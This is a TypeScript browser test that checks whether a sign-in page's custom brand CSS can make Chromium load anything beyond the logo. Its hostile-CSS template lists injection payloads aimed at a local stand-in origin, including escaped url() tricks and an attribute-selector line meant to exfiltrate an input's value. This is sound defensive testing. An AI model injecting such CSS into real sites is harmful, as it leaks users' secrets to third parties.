/** A page in Chromium loads its logo and nothing else from elsewhere, whatever a brand adds to it. */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { markup } from '../../../http/html.ts';
import { findChromium, launchChromium } from '../../../testing/chromium.ts';
import { renderPage } from './layout.ts';
import { plainLook } from '../look/look.ts';

const path = findChromium();
// This is printed, because reporters do not say why a test is skipped.
if (!path)
  console.warn(
    'src/services/auth/views/layout.browser.test.ts is skipped: no Chromium on PATH, nor at PLINTH_CHROMIUM',
  );

/** All the ways to load something that Chromium knows, and some that it may learn. */
const hostile = (origin: string) => `
@import "${origin}/import";
@import url(${origin}/import-url);
@font-face { font-family: theirs; src: url("${origin}/font"); unicode-range: U+0-10FFFF }
@namespace url(${origin}/namespace);
:root { --picture: url(${origin}/custom-property); --set: image-set("${origin}/custom-set" 1x) }
body { background: url("${origin}/background"); font-family: theirs; cursor: url(${origin}/cursor), auto }
main { background-image: image-set("${origin}/image-set" 1x) }
h1 { background-image: -webkit-image-set(url("${origin}/webkit-set") 1x) }
h1::before { content: url(${origin}/content) }
p { list-style: url(${origin}/list) disc; display: list-item; border-image: url(${origin}/border) 1 }
header { background: var(--picture); mask-image: url(${origin}/mask); filter: url(${origin}/filter#x) }
header div { background: var(--set); shape-outside: url(${origin}/shape); float: left }
input[value^="s"] { background: url(${origin}/exfiltrated) }
label { background: cross-fade(url(${origin}/cross-fade), red); offset-path: url(${origin}/path#x) }
@media screen { button { background: image-set(url(${origin}/media) type("image/png")) } }
@supports (color: red) { a { background: u\\72l(${origin}/escaped) } }
`;

describe.skipIf(!path)('in Chromium', { timeout: 60_000 }, () => {
  const servers: Server[] = [];
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchChromium(path!);
  }, 60_000);
  afterAll(async () => {
    await browser.close();
    for (const server of servers) server.close();
  });

  /** A server that records the requests that it gets. */
  async function listen(
    answer: (url: string) => { headers: Readonly<Record<string, string>>; body: string },
  ) {
    const asked: string[] = [];
    const server = createServer((request, response) => {
      asked.push(request.url!);
      const { headers, body } = answer(request.url!);
      response.writeHead(200, headers).end(body);
    });
    servers.push(server);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    return { asked, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
  }

  it('hostile CSS asks for nothing from elsewhere, even if it came past the rules', async () => {
    const picture =
      '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9"/></svg>';
    const answerPicture = () => ({ headers: { 'Content-Type': 'image/svg+xml' }, body: picture });
    const logo = await listen(answerPicture);
    const elsewhere = await listen(answerPicture);
    const css = hostile(elsewhere.origin);
    const look = { ...plainLook('App'), logo_url: `${logo.origin}/logo.svg`, custom_css: css };
    const body = markup`<h1>Sign in</h1><form><label for="a">Secret</label>
<input id="a" value="secret"><button>Go</button></form><p>Text <a href="/x">link</a></p>`;
    const pages = await listen((url) => {
      const page = renderPage({ title: 'Page', body }, look);
      const headers = { ...page.headers, 'Content-Type': 'text/html; charset=utf-8' };
      // The policy stops what the rules do not remove.
      return { headers, body: url === '/raw' ? page.body.replace('</style>', `${css}</style>`) : page.body };
    });
    for (const address of ['/', '/raw']) {
      const page = await browser.newPage();
      await page.goto(`${pages.origin}${address}`, { waitUntil: 'networkidle' });
      expect(await page.evaluate<number>(`document.querySelector('header img').naturalWidth`)).toBe(9);
      await page.close();
    }
    expect(logo.asked).toContain('/logo.svg');
    expect(elsewhere.asked).toEqual([]);
  });
});
